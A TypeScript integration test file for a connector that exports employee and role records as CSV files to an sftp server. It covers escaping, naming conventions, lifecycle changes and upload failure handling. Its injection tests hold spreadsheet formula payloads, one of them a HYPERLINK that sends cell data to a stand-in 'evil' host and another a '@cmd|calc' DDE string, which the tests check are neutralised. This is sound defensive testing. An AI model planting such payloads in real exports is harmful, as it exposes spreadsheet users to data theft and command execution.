/**
 * The Spend Cloud target against the REAL PostgreSQL and the REAL OpenSSH sftp server (no mocks).
 *
 *   TENURE_ENV=test bash scripts/services/postgres.sh start && TENURE_ENV=test bash scripts/services/sftp.sh start \
 *     && node --import tsx --test test/spendcloud-target.test.ts
 *
 * Without DATABASE_URL / SFTP_HOST set, .run/test/{postgres/pg.env,sftp/sftp.env} are read when present.
 * Every run uses its own target id (rows) and its own folder under the upload folder, removed at the end.
 * A TCP relay on 127.0.0.1 in front of sshd cuts the connection mid-upload for the failure test.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { chmodSync, chownSync, existsSync, mkdirSync, readFileSync, readdirSync, rmSync, statSync } from 'node:fs';
import net from 'node:net';
import { fileURLToPath } from 'node:url';
import pg from 'pg';
import { parse } from 'csv-parse/sync';
import {
  SpendCloudTargetConnector,
  TargetRejectedError,
  buildExport,
  exportAndUpload,
  parseSpendCloudConfig,
  spendCloudConfigFromEnv,
  type SpendCloudConfigInput,
  type SpendCloudDesiredAccount,
} from '../connectors/targets/spendcloud.js';
import { safeCell } from '../connectors/targets/spendcloud/csv.js';
import { genderCode, surnameFields } from '../connectors/targets/spendcloud/mapping.js';
import { migrate } from '../vault/migrate.js';

for (const file of ['../.run/test/postgres/pg.env', '../.run/test/sftp/sftp.env']) {
  const path = fileURLToPath(new URL(file, import.meta.url));
  if (!existsSync(path)) continue;
  for (const line of readFileSync(path, 'utf8').split('\n')) {
    for (const m of line.replace(/^export\s+/, '').matchAll(/([A-Z_]+)=(\S*)/g)) process.env[m[1]!] ??= m[2]!;
  }
}
const ready = !!process.env.DATABASE_URL && !!process.env.SFTP_HOST;
const skip = ready ? false : 'DATABASE_URL / SFTP_HOST not set: start postgres and sftp (scripts/services)';

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

// ------------------------------------------------------------------ pure parts

describe('spendcloud: cells, names, config', () => {
  test('formula injection is neutralised, control characters replaced', () => {
    assert.equal(safeCell('=HYPERLINK("http://x")'), `'=HYPERLINK("http://x")`);
    assert.equal(safeCell('+31 6'), `'+31 6`);
    assert.equal(safeCell('-2+3'), `'-2+3`);
    assert.equal(safeCell('@SUM(A1)'), `'@SUM(A1)`);
    assert.equal(safeCell('\tcmd'), `' cmd`);
    assert.equal(safeCell('\rcmd'), `' cmd`);
    assert.equal(safeCell('D\'Hondt; "Bob"'), 'D\'Hondt; "Bob"');
    assert.equal(safeCell('a\nb\u0000c'), 'a b c');
    assert.equal(safeCell('=1', false), '=1');
    assert.equal(safeCell(null), '');
  });

  test('achternaam / tussenvoegsel per naming convention', () => {
    const base = { nickName: 'Janine', familyName: 'Boele', familyNamePrefix: 'van den' };
    const partner = { partnerName: 'Vries', partnerNamePrefix: 'de' };
    assert.deepEqual(surnameFields({ ...base, convention: 'B' }), {
      achternaam: 'Boele van den',
      tussenvoegsel: 'van den',
    });
    assert.deepEqual(surnameFields({ ...base, ...partner, convention: 'BP' }), {
      achternaam: 'Boele - de Vries van den',
      tussenvoegsel: 'van den',
    });
    assert.deepEqual(surnameFields({ ...base, ...partner, convention: 'P' }), {
      achternaam: 'Vries de',
      tussenvoegsel: 'de',
    });
    assert.deepEqual(surnameFields({ ...base, ...partner, convention: 'PB' }), {
      achternaam: 'Vries - van den Boele de',
      tussenvoegsel: 'de',
    });
    assert.deepEqual(surnameFields({ nickName: 'Sam', familyName: 'Achterberg', convention: 'P' }), {
      achternaam: 'Achterberg',
      tussenvoegsel: '',
    });
    assert.equal(genderCode('m'), 'M');
    assert.equal(genderCode('V'), 'V');
    assert.equal(genderCode('F'), 'O');
    assert.equal(genderCode(undefined), 'O');
  });

  test('config: defaults, env fallback to SFTP_*, errors never echo secrets', () => {
    const c = parseSpendCloudConfig({});
    assert.equal(c.id, 'spendcloud');
    assert.equal(c.files.employeeNumberColumn, 'personeelsnummer', 'the employee number column is on by default');
    assert.equal(parseSpendCloudConfig({ files: {} }).files.employeeNumberColumn, 'personeelsnummer');
    assert.equal(c.files.persons, 'ProActive.csv');
    assert.equal(c.files.roles, 'ProActiveRoles.csv');
    assert.equal(c.files.bom, true);
    assert.equal(c.files.lineEnding, 'crlf');
    assert.equal(c.export.inactivePersons, 'omit');
    const e = spendCloudConfigFromEnv({
      SFTP_HOST: '127.0.0.1',
      SFTP_PORT: '2222',
      SFTP_USERNAME: 'u',
      SFTP_PRIVATE_KEY_FILE: '/k',
      SFTP_HOST_KEY_FILE: '/h.pub',
      SPENDCLOUD_SFTP_DIR: 'in',
      SPENDCLOUD_EMPLOYEE_NUMBER_COLUMN: 'personeelsnummer',
    });
    assert.equal(e.sftp?.port, 2222);
    assert.equal(e.sftp?.dir, 'in');
    assert.equal(e.files.employeeNumberColumn, 'personeelsnummer');
    assert.equal(
      spendCloudConfigFromEnv({ SPENDCLOUD_EMPLOYEE_NUMBER_COLUMN: 'off' }).files.employeeNumberColumn,
      null,
    );
    assert.equal(
      spendCloudConfigFromEnv({ SPENDCLOUD_EMPLOYEE_NUMBER_COLUMN: 'Werknemer' }).files.employeeNumberColumn,
      'Werknemer',
    );
    assert.equal(spendCloudConfigFromEnv({}).files.employeeNumberColumn, 'personeelsnummer');
    assert.throws(
      () =>
        parseSpendCloudConfig({
          sftp: { host: 'h', username: 'u', privateKey: 'SECRET-KEY-MATERIAL', passphrase: 'SECRET-PASS' },
        }),
      (err: Error) =>
        /host key pinning/.test(err.message) && !/SECRET/.test(err.message) && !/SECRET/.test(String(err.stack)),
    );
    assert.throws(() => parseSpendCloudConfig({ files: { persons: '../x.csv' } }), /a file name/);
    assert.throws(() => parseSpendCloudConfig({ export: { timeZone: 'Mars/Base' } }), /time zone/);
  });
});

// ------------------------------------------------------------------ against the real servers

interface Env {
  pool: pg.Pool;
  uploadRoot: string;
  sftpUid: number;
}

const runId = `${Date.now().toString(36)}${Math.floor(Math.random() * 1e6).toString(36)}`;
let env: Env;
const targets: string[] = [];
const dirs: string[] = [];

/** A fresh target id and upload folder (owned by the sftp user) for one scenario. */
function scenario(name: string, extra: Partial<SpendCloudConfigInput> = {}) {
  const id = `sc-${runId}-${name}`;
  const local = `${env.uploadRoot}/t-${runId}-${name}`;
  mkdirSync(local, { mode: 0o755 });
  chownSync(local, env.sftpUid, -1);
  targets.push(id);
  dirs.push(local);
  const config: SpendCloudConfigInput = {
    id,
    sftp: {
      host: process.env.SFTP_HOST!,
      port: Number(process.env.SFTP_PORT),
      username: process.env.SFTP_USERNAME!,
      privateKeyFile: process.env.SFTP_PRIVATE_KEY_FILE!,
      hostKeyFile: process.env.SFTP_HOST_KEY_FILE!,
      dir: local,
      readyTimeoutMs: 5_000,
      attemptTimeoutMs: 15_000,
    },
    upload: { attempts: 3, retryDelayMs: 100 },
    // Byte-for-byte the shipped export's six columns unless a test asks for the employee number.
    files: { employeeNumberColumn: null },
    ...extra,
  };
  return { id, local, config, connector: new SpendCloudTargetConnector(env.pool, config) };
}

const read = (local: string, name: string) => readFileSync(`${local}/${name}`);

function parseCsv(buf: Buffer, delimiter: string): string[][] {
  return parse(buf, { bom: true, delimiter, relax_quotes: false }) as string[][];
}

function leftovers(local: string): string[] {
  return readdirSync(local).filter((f) => f.endsWith('.part'));
}

function person(
  employeeId: string,
  username: string,
  nickName: string,
  familyName: string,
  contracts: SpendCloudDesiredAccount['contracts'],
  extra: Partial<SpendCloudDesiredAccount> = {},
): SpendCloudDesiredAccount {
  return {
    personKey: `file:${employeeId}`,
    employeeId,
    username,
    userPrincipalName: `${username}@example.org`,
    email: `${username}@example.org`,
    emailAliases: [],
    displayName: `${nickName} ${familyName}`,
    givenName: nickName,
    familyName,
    name: { nickName, familyName, convention: 'B' },
    contracts,
    ...extra,
  };
}

const contract = (
  id: string,
  dept: [string, string],
  title: [string, string],
  startDate = '2026-01-01',
  endDate?: string,
) => ({
  id,
  startDate,
  endDate,
  department: { code: dept[0], name: dept[1] },
  title: { code: title[0], name: title[1] },
});

const at = (day: string) => () => new Date(`${day}T10:00:00Z`);

describe('spendcloud: real PostgreSQL and sshd', { skip }, () => {
  before(async () => {
    await migrate(process.env.DATABASE_URL!);
    const uploadRoot = process.env.SFTP_UPLOAD_DIR!;
    env = {
      pool: new pg.Pool({ connectionString: process.env.DATABASE_URL, max: 4 }),
      uploadRoot,
      sftpUid: statSync(uploadRoot).uid,
    };
  });

  after(async () => {
    if (!env) return;
    await env.pool.query('delete from spendcloud_persons where target = any($1)', [targets]);
    await env.pool.query('delete from spendcloud_exports where target = any($1)', [targets]);
    await env.pool.end();
    for (const d of dirs) {
      chmodSync(d, 0o755);
      rmSync(d, { recursive: true, force: true });
    }
  });

  test('the reference CSV example byte for byte: BOM, CRLF, ; and , separators, all quoted', async () => {
    const { connector: c, config, local } = scenario('spec');
    const jan = person(
      '1001',
      'jjansen',
      'Jan',
      'Jansen',
      [contract('c1', ['FIN', 'Finance'], ['FIN-CTRL', 'Controller'])],
      {
        gender: 'M',
        email: 'j.jansen@example.org',
      },
    );
    const janine = person(
      '1002',
      'jvandenboele',
      'Janine',
      'Boele',
      [
        contract('c1', ['FIN', 'Finance'], ['FIN-ADM', 'Administratief medewerker']),
        contract('c2', ['HR', 'HR'], ['HR-MED', 'HR medewerker'], '2026-02-01'),
      ],
      {
        gender: 'V',
        email: 'janine.vandenboele@example.org',
        name: { nickName: 'Janine', familyName: 'Boele', familyNamePrefix: 'van den', convention: 'B' },
      },
    );
    const sam = person(
      '1003',
      'sachterberg',
      'Sam',
      'Achterberg',
      [contract('c1', ['OPS', 'Operations'], ['OPS-01', 'Operator'])],
      {
        email: 's.achterberg@example.org',
      },
    );
    for (const p of [jan, janine, sam]) {
      const r = await c.create(p);
      assert.equal(r.audit[0]!.action, 'create');
      assert.deepEqual(r.account, { id: p.employeeId, locator: p.username });
      await c.enable(r.account!);
    }
    const result = await exportAndUpload(env.pool, config, { now: at('2026-05-04') });
    assert.equal(result.persons, 3);
    assert.equal(result.roles, 4);
    assert.equal(result.attempts, 1);

    const persons = read(local, 'ProActive.csv');
    const roles = read(local, 'ProActiveRoles.csv');
    const expectedPersons =
      '"voornaam";"tussenvoegsel";"achternaam";"geslacht";"email";"gebruikersnaam"\r\n' +
      '"Jan";"";"Jansen";"M";"j.jansen@example.org";"jjansen"\r\n' +
      '"Janine";"van den";"Boele van den";"V";"janine.vandenboele@example.org";"jvandenboele"\r\n' +
      '"Sam";"";"Achterberg";"O";"s.achterberg@example.org";"sachterberg"\r\n';
    const expectedRoles =
      '"Organisatorische Eenheid","Gebruikersnaam","Functieprofiel Code"\r\n' +
      '"Finance","jjansen","FIN-CTRL"\r\n' +
      '"Finance","jvandenboele","FIN-ADM"\r\n' +
      '"HR","jvandenboele","HR-MED"\r\n' +
      '"Operations","sachterberg","OPS-01"\r\n';
    assert.deepEqual(persons, Buffer.concat([BOM, Buffer.from(expectedPersons, 'utf8')]));
    assert.deepEqual(roles, Buffer.concat([BOM, Buffer.from(expectedRoles, 'utf8')]));
    assert.equal(result.files[0]!.bytes, persons.length);
    assert.deepEqual(leftovers(local), []);

    // Parses back with csv-parse to exactly the rows.
    assert.deepEqual(parseCsv(persons, ';').slice(1), [
      ['Jan', '', 'Jansen', 'M', 'j.jansen@example.org', 'jjansen'],
      ['Janine', 'van den', 'Boele van den', 'V', 'janine.vandenboele@example.org', 'jvandenboele'],
      ['Sam', '', 'Achterberg', 'O', 's.achterberg@example.org', 'sachterberg'],
    ]);
    assert.deepEqual(parseCsv(roles, ',')[0], ['Organisatorische Eenheid', 'Gebruikersnaam', 'Functieprofiel Code']);

    // Idempotent: a second run gives the same bytes; the run is recorded.
    const again = await exportAndUpload(env.pool, config, { now: at('2026-05-04') });
    assert.equal(again.files[0]!.sha256, result.files[0]!.sha256);
    assert.equal(again.files[1]!.sha256, result.files[1]!.sha256);
    const rec = await env.pool.query('select outcome, attempts, persons, roles from spendcloud_exports where id = $1', [
      again.exportId,
    ]);
    assert.deepEqual(rec.rows[0], { outcome: 'uploaded', attempts: 1, persons: 3, roles: 4 });

    // Settings for the unverified points: no BOM, LF, employee number column.
    const variant = {
      ...config,
      files: { bom: false, lineEnding: 'lf' as const, employeeNumberColumn: 'personeelsnummer' },
    };
    await exportAndUpload(env.pool, variant, { now: at('2026-05-04') });
    const p2 = read(local, 'ProActive.csv').toString('utf8');
    assert.ok(
      p2.startsWith('"voornaam";"tussenvoegsel";"achternaam";"geslacht";"email";"gebruikersnaam";"personeelsnummer"\n'),
    );
    assert.ok(p2.includes('"Jan";"";"Jansen";"M";"j.jansen@example.org";"jjansen";"1001"\n'));
    assert.ok(!p2.includes('\r'));
  });

  test('hostile names: apostrophes, separators, quotes, formula starts, non-ASCII', async () => {
    const { connector: c, config, local } = scenario('inject');
    const nasty = [
      person(
        '2001',
        'dhondt',
        "D'Artagnan",
        "D'Hondt",
        [contract('c1', ['X', 'Sales; "North", EMEA'], ['S,1', 'Rep'])],
        {
          name: { nickName: "D'Artagnan", familyName: 'Hart', familyNamePrefix: "van 't", convention: 'B' },
        },
      ),
      person('2002', 'formula', '=HYPERLINK("http://evil/?"&A1,"click")', '+SUM(A1:A9)', [
        contract('c1', ['X', '@cmd|calc'], ['-1+1', 'T']),
      ]),
      person('2003', 'tab', '\tTab', '\rCr', [contract('c1', ['X', 'Zoë Øster 李'], ['Ä', 'T'])], {
        name: { nickName: '\tTab', familyName: 'Çelik', convention: 'B' },
      }),
    ];
    for (const p of nasty) await c.enable((await c.create(p)).account!);
    await exportAndUpload(env.pool, config, { now: at('2026-05-04') });
    const persons = parseCsv(read(local, 'ProActive.csv'), ';');
    const roles = parseCsv(read(local, 'ProActiveRoles.csv'), ',');
    assert.deepEqual(persons.slice(1), [
      ["D'Artagnan", "van 't", "Hart van 't", 'O', 'dhondt@example.org', 'dhondt'],
      [`'=HYPERLINK("http://evil/?"&A1,"click")`, '', `'+SUM(A1:A9)`, 'O', 'formula@example.org', 'formula'],
      ['Tab', '', 'Celik', 'O', 'tab@example.org', 'tab'], // the mapping trims: a leading TAB never reaches the file
    ]);
    assert.deepEqual(roles.slice(1), [
      ['Sales; "North", EMEA', 'dhondt', 'S,1'],
      ["'@cmd|calc", 'formula', "'-1+1"],
      ['Zoë Øster 李', 'tab', 'Ä'],
    ]);
    // No cell starts with a formula character.
    for (const row of [...persons, ...roles]) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
  });

  test('lifecycle: hire, start, mover, name change, leaver, rehire, delete, withdrawn hire', async () => {
    const { connector: c, config, local } = scenario('life');
    const exportOn = async (day: string, cfg = config) => {
      await exportAndUpload(env.pool, cfg, { now: at(day) });
      return {
        persons: parseCsv(read(local, 'ProActive.csv'), ';').slice(1),
        roles: parseCsv(read(local, 'ProActiveRoles.csv'), ',').slice(1),
      };
    };
    // A colleague so the dump is never empty.
    const anchor = person('3000', 'anchor', 'Anna', 'Anker', [contract('a', ['OPS', 'Operations'], ['OPS-01', 'Op'])]);
    await c.enable((await c.create(anchor)).account!);

    // Hire (pre-hire, start 2026-06-01): created inactive, not exported.
    const hired = person('3001', 'pvisser', 'Piet', 'Visser', [
      contract('k1', ['FIN', 'Finance'], ['FIN-ADM', 'Adm'], '2026-06-01'),
    ]);
    assert.equal(await c.correlate('3001'), null);
    const created = await c.create(hired);
    const ref = created.account!;
    // A retried create correlates; no second row.
    const retry = await c.create(hired);
    assert.equal(retry.audit[0]!.action, 'correlate');
    assert.deepEqual(retry.account, ref);
    assert.deepEqual(await c.correlate(' 3001 '), ref);
    let out = await exportOn('2026-05-28');
    assert.deepEqual(
      out.persons.map((p) => p[5]),
      ['anchor'],
    );

    // Start: enabled at the start date, the role is active that day.
    assert.equal((await c.enable(ref)).audit[0]!.outcome, 'success');
    assert.equal((await c.enable(ref)).audit[0]!.outcome, 'unchanged');
    out = await exportOn('2026-06-01');
    assert.deepEqual(out.persons[1], ['Piet', '', 'Visser', 'O', 'pvisser@example.org', 'pvisser']);
    assert.deepEqual(out.roles, [
      ['Operations', 'anchor', 'OPS-01'],
      ['Finance', 'pvisser', 'FIN-ADM'],
    ]);
    // Unchanged update writes nothing.
    assert.equal((await c.update(ref, hired)).audit[0]!.outcome, 'unchanged');

    // Mover: k1 ends 2026-06-30, k2 (HR) from 2026-07-01, both passed in one update.
    const mover = {
      ...hired,
      contracts: [
        contract('k1', ['FIN', 'Finance'], ['FIN-ADM', 'Adm'], '2026-06-01', '2026-06-30'),
        contract('k2', ['HR', 'Human Resources'], ['HR-MED', 'Med'], '2026-07-01'),
      ],
    };
    const moved = await c.update(ref, mover);
    assert.deepEqual(moved.audit[0]!.details, {
      attributes: [],
      roles: { added: ['k2'], changed: ['k1'], removed: [] },
    });
    out = await exportOn('2026-06-30');
    assert.deepEqual(
      out.roles.filter((r) => r[1] === 'pvisser'),
      [['Finance', 'pvisser', 'FIN-ADM']],
    );
    out = await exportOn('2026-07-01');
    assert.deepEqual(
      out.roles.filter((r) => r[1] === 'pvisser'),
      [['Human Resources', 'pvisser', 'HR-MED']],
    );

    // Name change incl. username: roles follow (they point at the person, not the username).
    const renamed = {
      ...mover,
      username: 'pdevries',
      email: 'p.devries@example.org',
      name: { nickName: 'Piet', familyName: 'Vries', familyNamePrefix: 'de', convention: 'B' as const },
    };
    const upd = await c.update(ref, renamed);
    assert.deepEqual(upd.audit[0]!.details, { attributes: ['tussenvoegsel', 'achternaam', 'email', 'gebruikersnaam'] });
    const ref2 = upd.account!;
    assert.deepEqual(ref2, { id: '3001', locator: 'pdevries' });
    out = await exportOn('2026-07-02');
    assert.deepEqual(out.persons[1], ['Piet', 'de', 'Vries de', 'O', 'p.devries@example.org', 'pdevries']);
    assert.deepEqual(
      out.roles.filter((r) => r[1] !== 'anchor'),
      [['Human Resources', 'pdevries', 'HR-MED']],
    );

    // Username collision with another person is a permanent rejection; isTaken sees it.
    assert.equal(await c.isTaken({ username: 'PDEVRIES', userPrincipalName: '', email: '' }, '3000'), true);
    assert.equal(await c.isTaken({ username: 'pdevries', userPrincipalName: '', email: '' }, '3001'), false);
    await assert.rejects(
      () => c.update({ id: '3000', locator: 'anchor' }, { ...anchor, username: 'PDevries' }),
      TargetRejectedError,
    );

    // Leaver: disabled -> left out (default) or kept without roles (setting).
    assert.equal((await c.disable(ref2)).audit[0]!.outcome, 'success');
    assert.equal((await c.disable(ref2)).audit[0]!.outcome, 'unchanged');
    out = await exportOn('2026-08-01');
    assert.deepEqual(
      out.persons.map((p) => p[5]),
      ['anchor'],
    );
    out = await exportOn('2026-08-01', { ...config, export: { inactivePersons: 'withoutRoles' } });
    assert.deepEqual(
      out.persons.map((p) => p[5]),
      ['anchor', 'pdevries'],
    );
    assert.deepEqual(
      out.roles.map((r) => r[1]),
      ['anchor'],
    );

    // Rehire: a new contract, enabled again.
    const rehire = { ...renamed, contracts: [contract('k3', ['IT', 'IT'], ['IT-DEV', 'Dev'], '2026-09-01')] };
    const re = await c.update(ref2, rehire);
    assert.deepEqual(re.audit[0]!.details, {
      attributes: [],
      roles: { added: ['k3'], changed: [], removed: ['k1', 'k2'] },
    });
    await c.enable(ref2);
    out = await exportOn('2026-09-01');
    assert.deepEqual(
      out.roles.filter((r) => r[1] !== 'anchor'),
      [['IT', 'pdevries', 'IT-DEV']],
    );

    // Delete: rows gone, next export without them; deleting again is notFound, updating/enabling is rejected.
    assert.equal((await c.delete(ref2)).audit[0]!.outcome, 'success');
    assert.equal((await c.delete(ref2)).audit[0]!.outcome, 'notFound');
    assert.equal((await c.disable(ref2)).audit[0]!.outcome, 'notFound');
    await assert.rejects(() => c.update(ref2, rehire), TargetRejectedError);
    await assert.rejects(() => c.enable(ref2), TargetRejectedError);
    const left = await env.pool.query(
      'select count(*)::int as n from spendcloud_roles where target = $1 and external_id = $2',
      [config.id, '3001'],
    );
    assert.equal(left.rows[0].n, 0);
    out = await exportOn('2026-09-02');
    assert.deepEqual(
      out.persons.map((p) => p[5]),
      ['anchor'],
    );

    // Withdrawn hire: created, never started, deleted -> never in any export.
    const w = await c.create(
      person('3002', 'wwithdrawn', 'Wim', 'Weg', [contract('w', ['FIN', 'Finance'], ['F', 'F'], '2026-10-01')]),
    );
    out = await exportOn('2026-09-15');
    assert.ok(!out.persons.some((p) => p[5] === 'wwithdrawn'));
    assert.equal((await c.delete(w.account!)).audit[0]!.outcome, 'success');
    out = await exportOn('2026-10-01');
    assert.deepEqual(
      out.persons.map((p) => p[5]),
      ['anchor'],
    );

    // Permissions: roles are not permissions.
    assert.deepEqual(await c.listPermissions({ id: '3000', locator: 'anchor' }), []);
    await assert.rejects(
      () => c.grantPermission({ id: '3000', locator: 'anchor' }, { name: 'x' }),
      TargetRejectedError,
    );
    assert.equal(
      (await c.revokePermission({ id: '3000', locator: 'anchor' }, { name: 'x' })).audit[0]!.outcome,
      'unchanged',
    );
    assert.ok(!leftovers(local).length);
  });

  test('roles only for the contracts the rules select for this target; every contract without a selection', async () => {
    const { connector: c, config, local } = scenario('select');
    const roles = async () => {
      await exportAndUpload(env.pool, config, { now: at('2026-06-01') });
      return parseCsv(read(local, 'ProActiveRoles.csv'), ',').slice(1);
    };
    const contracts = [
      contract('s1', ['FIN', 'Finance'], ['FIN-ADM', 'Adm']),
      contract('s2', ['HR', 'Human Resources'], ['HR-MED', 'Med']),
    ];
    // Selected for this target: the FIN contract only (another target's selection does not count).
    const chosen = person('3101', 'sselect', 'Saskia', 'Select', contracts, {
      selectedContracts: { [c.id]: ['s1'], 'other-target': ['s2'] },
    });
    await c.enable((await c.create(chosen)).account!);
    // A plan from before the selection existed: every contract, as before.
    const all = person('3102', 'aall', 'Ali', 'All', contracts);
    await c.enable((await c.create(all)).account!);
    assert.deepEqual(await roles(), [
      ['Finance', 'sselect', 'FIN-ADM'],
      ['Finance', 'aall', 'FIN-ADM'],
      ['Human Resources', 'aall', 'HR-MED'],
    ]);
    // The rules now select the HR contract: the role rows follow.
    const reselected: SpendCloudDesiredAccount = { ...chosen, selectedContracts: { [c.id]: ['s2'] } };
    const moved = await c.update((await c.correlate('3101'))!, reselected);
    assert.deepEqual(moved.audit[0]!.details, {
      attributes: [],
      roles: { added: ['s2'], changed: [], removed: ['s1'] },
    });
    assert.deepEqual(
      (await roles()).filter((r) => r[1] === 'sselect'),
      [['Human Resources', 'sselect', 'HR-MED']],
    );
  });

  test('empty dump is refused unless allowed; a fully failed upload keeps the previous file', async () => {
    const { connector: c, config, local } = scenario('fail');
    await assert.rejects(
      () => exportAndUpload(env.pool, config, { now: at('2026-05-04') }),
      /refusing to upload an empty file/,
    );
    const ok = await exportAndUpload(env.pool, { ...config, export: { allowEmpty: true } }, { now: at('2026-05-04') });
    assert.equal(ok.persons, 0);
    assert.equal(
      read(local, 'ProActive.csv').toString('utf8'),
      '\uFEFF"voornaam";"tussenvoegsel";"achternaam";"geslacht";"email";"gebruikersnaam"\r\n',
    );

    await c.enable(
      (await c.create(person('4001', 'ro', 'Ro', 'Only', [contract('r', ['X', 'X'], ['Y', 'Y'])]))).account!,
    );
    const before = read(local, 'ProActive.csv');
    chmodSync(local, 0o555); // the sftp user can no longer create or rename files here
    const failures: number[] = [];
    try {
      await assert.rejects(
        () =>
          exportAndUpload(
            env.pool,
            { ...config, upload: { attempts: 2, retryDelayMs: 50 } },
            {
              now: at('2026-05-04'),
              onAttemptFailed: ({ attempt }) => {
                failures.push(attempt);
              },
            },
          ),
        (err: Error) => /failed after 2 attempt/.test(err.message) && !/BEGIN OPENSSH/.test(err.message),
      );
    } finally {
      chmodSync(local, 0o755);
    }
    assert.deepEqual(failures, [1, 2]);
    assert.deepEqual(read(local, 'ProActive.csv'), before);
    assert.deepEqual(leftovers(local), []);
    const rec = await env.pool.query(
      `select outcome, attempts from spendcloud_exports where target = $1 order by id desc limit 1`,
      [config.id],
    );
    assert.deepEqual(rec.rows[0], { outcome: 'failed', attempts: 2 });

    // Read-only at the first attempt, writable again before the retry: the retry succeeds.
    chmodSync(local, 0o555);
    const r = await exportAndUpload(env.pool, config, {
      now: at('2026-05-04'),
      onAttemptFailed: () => chmodSync(local, 0o755),
    });
    assert.equal(r.attempts, 2);
    assert.equal(parseCsv(read(local, 'ProActive.csv'), ';')[1]![5], 'ro');
    assert.deepEqual(leftovers(local), []);
  });

  test('connection cut mid-upload: no partial file under the final name, the retry completes', async () => {
    const { config, local, id } = scenario('cut');
    // 3,000 persons with two roles each, straight into the tables (the lifecycle is tested above).
    await env.pool.query(
      `insert into spendcloud_persons (target, external_id, voornaam, achternaam, geslacht, email, gebruikersnaam, active)
       select $1, lpad(i::text, 6, '0'), 'Voornaam' || i, 'Achternaam-' || i, 'O', 'user' || i || '@example.org', 'user' || i, true
       from generate_series(1, 3000) i`,
      [id],
    );
    await env.pool.query(
      `insert into spendcloud_roles (target, external_id, contract_id, ou, oucode, functie, functiecode, start_date)
       select $1, lpad(i::text, 6, '0'), 'c' || k, 'Afdeling ' || (i % 40), 'D' || (i % 40), 'Functie', 'F-' || k, '2026-01-01'
       from generate_series(1, 3000) i, generate_series(1, 2) k`,
      [id],
    );
    // A previous complete export under the final names.
    const first = await exportAndUpload(
      env.pool,
      { ...config, sftp: { ...config.sftp!, dir: local } },
      { now: at('2026-05-03') },
    );
    const previous = read(local, 'ProActive.csv');
    assert.equal(first.persons, 3000);

    await env.pool.query(`update spendcloud_persons set voornaam = 'Nieuw' || voornaam where target = $1`, [id]);
    const relay = await startRelay(Number(process.env.SFTP_PORT), 120_000);
    const seenAtFailure: { finalSame: boolean; parts: string[] }[] = [];
    try {
      const r = await exportAndUpload(
        env.pool,
        { ...config, sftp: { ...config.sftp!, port: relay.port } },
        {
          now: at('2026-05-04'),
          onAttemptFailed: () => {
            seenAtFailure.push({
              finalSame: read(local, 'ProActive.csv').equals(previous),
              parts: leftovers(local),
            });
          },
        },
      );
      assert.equal(r.attempts, 2);
      assert.equal(relay.cut, 1);
    } finally {
      await relay.close();
    }
    // At the failure, the final file was still the previous complete one; only a .part existed.
    assert.equal(seenAtFailure.length, 1);
    assert.equal(seenAtFailure[0]!.finalSame, true);
    // Now the final files are exactly the new export, and no temporaries are left.
    const client = await env.pool.connect();
    try {
      const expected = await buildExport(client, parseSpendCloudConfig(config), '2026-05-04');
      assert.deepEqual(read(local, 'ProActive.csv'), expected.persons.data);
      assert.deepEqual(read(local, 'ProActiveRoles.csv'), expected.roles!.data);
    } finally {
      client.release();
    }
    assert.deepEqual(leftovers(local), []);
    const rows = parseCsv(read(local, 'ProActive.csv'), ';');
    assert.equal(rows.length, 3001);
    assert.equal(rows[1]![0], 'NieuwVoornaam1');
    assert.equal(parseCsv(read(local, 'ProActiveRoles.csv'), ',').length, 6001);
  });
});

/**
 * A TCP relay on 127.0.0.1 to the real sshd. The first connection is cut (both sides destroyed)
 * once `cutAfter` bytes went from client to server, i.e. in the middle of the file data.
 */
async function startRelay(targetPort: number, cutAfter: number) {
  const sockets = new Set<net.Socket>();
  const state = { connections: 0, cut: 0 };
  const server = net.createServer((client) => {
    const n = ++state.connections;
    const upstream = net.connect(targetPort, '127.0.0.1');
    sockets.add(client).add(upstream);
    let sent = 0;
    client.on('data', (chunk: Buffer) => {
      sent += chunk.length;
      if (n === 1 && sent > cutAfter) {
        state.cut++;
        client.destroy();
        upstream.destroy();
        return;
      }
      upstream.write(chunk);
    });
    upstream.on('data', (chunk: Buffer) => client.write(chunk));
    const end = () => {
      client.destroy();
      upstream.destroy();
    };
    client.on('close', end).on('error', end);
    upstream.on('close', end).on('error', end);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as net.AddressInfo).port;
  return {
    port,
    get cut() {
      return state.cut;
    },
    close: () =>
      new Promise<void>((resolve) => {
        for (const s of sockets) s.destroy();
        server.close(() => resolve());
      }),
  };
}
